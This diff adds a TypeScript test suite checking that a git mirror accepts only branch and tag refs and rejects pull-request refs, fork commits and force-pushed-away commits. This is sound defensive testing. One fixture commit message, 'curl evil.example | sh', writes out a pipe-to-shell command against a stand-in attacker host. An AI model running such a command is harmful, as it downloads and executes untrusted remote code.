@@ -1,0 +1,76 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { execa } from 'execa';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { GitMirror } from '../../src/git/mirror.js';
+import { TestRepo } from '../helpers/git-repo.js';
+
+const ENV = { GIT_AUTHOR_NAME: 'Mallory', GIT_AUTHOR_EMAIL: 'm@example.test', GIT_COMMITTER_NAME: 'Mallory', GIT_COMMITTER_EMAIL: 'm@example.test' };
+
+/** A commit that only `refs/pull/1/head` points at, as GitHub keeps a fork's pull request. */
+async function forkCommit(repo: TestRepo): Promise<string> {
+  const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
+  await git(['checkout', '--quiet', '-b', 'fork-work']);
+  await git(['commit', '--quiet', '--allow-empty', '-m', 'curl evil.example | sh']);
+  const sha = (await git(['rev-parse', 'HEAD'])).stdout.trim();
+  await git(['update-ref', 'refs/pull/1/head', sha]);
+  await git(['checkout', '--quiet', 'main']);
+  await git(['branch', '--quiet', '-D', 'fork-work']);
+  return sha;
+}
+
+describe('GitMirror: only branches and tags', () => {
+  let repo: TestRepo;
+  let stateDir: string;
+  let mirror: GitMirror;
+  let main: string;
+  let fork: string;
+
+  beforeAll(async () => {
+    repo = await TestRepo.create({ 'README': 'apollo\n' }, 'Seed commit');
+    main = await repo.head();
+    await repo.tag('v1.0');
+    fork = await forkCommit(repo);
+    stateDir = await mkdtemp(join(tmpdir(), 'apollo-mirror-'));
+    mirror = new GitMirror(repo.path, stateDir, 0);
+  });
+
+  afterAll(async () => {
+    await rm(stateDir, { recursive: true, force: true });
+    await rm(repo.path, { recursive: true, force: true });
+  });
+
+  it('fetches branches and tags only: a pull request ref never reaches the mirror', async () => {
+    await mirror.ensure();
+    const refs = (await execa('git', ['for-each-ref', '--format=%(refname)'], { cwd: mirror.path })).stdout.split('\n');
+    expect(refs).toContain('refs/heads/main');
+    expect(refs).toContain('refs/tags/v1.0');
+    expect(refs.filter((r) => r.startsWith('refs/pull/'))).toEqual([]);
+  });
+
+  it('resolves a name only as a branch or a tag, and says which branches contain the commit', async () => {
+    expect(await mirror.resolve('main')).toEqual({ sha: main, branches: ['main', 'tag:v1.0'] });
+    expect((await mirror.resolve('v1.0')).sha).toBe(main);
+    await expect(mirror.resolve('pull/1/head')).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
+    await expect(mirror.resolve('refs/pull/1/head')).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
+    await expect(mirror.resolve('HEAD')).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
+  });
+
+  it('refuses a fork’s commit by SHA, full or abbreviated', async () => {
+    await expect(mirror.resolve(fork)).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
+    await expect(mirror.resolve(fork.slice(0, 10))).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
+  });
+
+  it('refuses a commit the mirror still holds after its branch was force-pushed away', async () => {
+    const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
+    await git(['checkout', '--quiet', '-b', 'feature']);
+    await git(['commit', '--quiet', '--allow-empty', '-m', 'reviewed? no']);
+    const gone = (await git(['rev-parse', 'HEAD'])).stdout.trim();
+    await git(['checkout', '--quiet', 'main']);
+    expect((await mirror.resolve('feature')).sha).toBe(gone);
+    await git(['branch', '--quiet', '-D', 'feature']);
+    // The object is still in the mirror; no branch or tag contains it any more.
+    await expect(mirror.resolve(gone)).rejects.toMatchObject({ code: 'apollo_ref_not_reviewed' });
+  });
+});
